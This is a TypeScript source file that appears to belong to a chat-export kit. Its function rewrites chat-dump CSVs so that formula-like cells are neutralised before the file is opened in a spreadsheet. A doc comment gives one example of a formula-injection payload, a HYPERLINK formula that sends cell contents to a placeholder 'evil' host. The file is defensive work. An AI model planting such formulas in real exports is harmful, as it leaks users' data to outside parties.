import { neutraliseFormula } from './chatDumpCells';
import { loadPapa } from './loadPapa';
import type { ChatDumpInput } from './readChatDumpText';
import { readChatDumpText } from './readChatDumpText';

export interface NeutraliseChatDumpOptions {
  signal?: AbortSignal;
}

/**
 * Makes a chat dump safe to open in a spreadsheet: streams it through papaparse and writes every
 * row back with each formula-like cell prefixed by `'` (see `chatDumpCells.ts`). Every row and
 * column is kept, known or not, malformed or not; line endings become CRLF and the file starts
 * with a UTF-8 byte-order mark (so spreadsheets read it as UTF-8). Cells the kit's reader restores:
 * `parseChatDump` gives back the provider's text.
 *
 * A provider's CSV (RealtimeKit or Dyte storage) is written from what participants typed, so a
 * message `=HYPERLINK("https://evil/?"&A2,"Open")` would be a live formula in the host's
 * spreadsheet if saved as received.
 *
 * @example
 * ```ts
 * saveBlob(await neutraliseChatDump(await response.blob()), 'chat.csv')
 * ```
 */
export async function neutraliseChatDump(
  input: ChatDumpInput,
  options: NeutraliseChatDumpOptions = {},
): Promise<Blob> {
  const { signal } = options;
  signal?.throwIfAborted();
  const Papa = await loadPapa();
  const out: string[] = ['\ufeff'];
  let parser: InstanceType<typeof Papa.Parser> | undefined;
  let pending = '';
  let base = 0;
  let carried = 0;
  let first = true;

  const write = (rows: string[][]) => {
    if (rows.length === 0) return;
    const csv = Papa.unparse(
      rows.map((row) => row.map(neutraliseCell)),
      { newline: '\r\n', quoteChar: '"', escapeChar: '"' },
    );
    out.push(first ? csv : `\r\n${csv}`);
    first = false;
  };

  /** Parses the complete rows of `pending` (all of it when `final`) and writes them out. */
  const step = (final: boolean) => {
    if (!parser) {
      const newline = detectNewline(pending, final);
      if (newline === undefined) return;
      parser = new Papa.Parser({ delimiter: ',', newline, quoteChar: '"', escapeChar: '"' });
    }
    const result = parser.parse(pending, base, !final) as {
      data: string[][];
      meta: { cursor: number };
    };
    const consumed = final ? pending.length : result.meta.cursor - base;
    write(result.data);
    pending = pending.slice(consumed);
    base += consumed;
    carried = pending.length;
  };

  for await (const chunk of readChatDumpText(input)) {
    signal?.throwIfAborted();
    pending += chunk.text;
    // Parse once the new text is at least as long as the carried incomplete row, so a huge
    // unclosed quote costs amortised linear time, not a re-scan per chunk.
    if (pending.length - carried >= carried) step(false);
  }
  signal?.throwIfAborted();
  step(true);
  if (!first) out.push('\r\n'); // a CSV file ends with a line break
  return new Blob(out, { type: 'text/csv;charset=utf-8' });
}

/**
 * A cell that starts with `'` is text to a spreadsheet already (the kit's own dumps, the dev
 * server's): left alone, so neutralising twice changes nothing. Others get the writer's rule.
 */
function neutraliseCell(cell: string): string {
  return cell.charCodeAt(0) === 39 /* ' */ ? cell : neutraliseFormula(cell);
}

/** The file's line break, from its first one; `undefined` until a chunk shows one. */
function detectNewline(text: string, final: boolean): '\r\n' | '\n' | '\r' | undefined {
  const lf = text.indexOf('\n');
  const cr = text.indexOf('\r');
  if (cr !== -1 && (lf === -1 || cr < lf)) {
    if (cr + 1 < text.length || final) return text[cr + 1] === '\n' ? '\r\n' : '\r';
    return undefined;
  }
  if (lf !== -1) return '\n';
  return final ? '\r\n' : undefined;
}
